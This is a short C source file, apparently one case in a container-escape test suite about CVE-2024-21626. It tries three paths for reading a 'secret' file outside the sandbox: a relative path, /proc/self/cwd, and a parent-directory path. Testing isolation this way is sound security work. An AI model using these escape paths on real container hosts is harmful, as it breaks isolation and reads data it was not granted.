/*
 * Attack 14 (CVE-2024-21626): the caller's working directory lies outside when the program starts.
 * An escape: the secret's bytes through a relative path or /proc/self/cwd.
 */
#include "escape.h"

static int way_relative(void)
{
	return esc_open_raw("secret");
}

static int way_proc(void)
{
	return esc_open_raw("/proc/self/cwd/secret");
}

static int way_parent(void)
{
	return esc_open_raw("../outside/secret");
}

static const struct esc_way ways[] = {
        {"relative", way_relative}, {"proc", way_proc}, {"parent", way_parent}};
ESC_MAIN(ways)
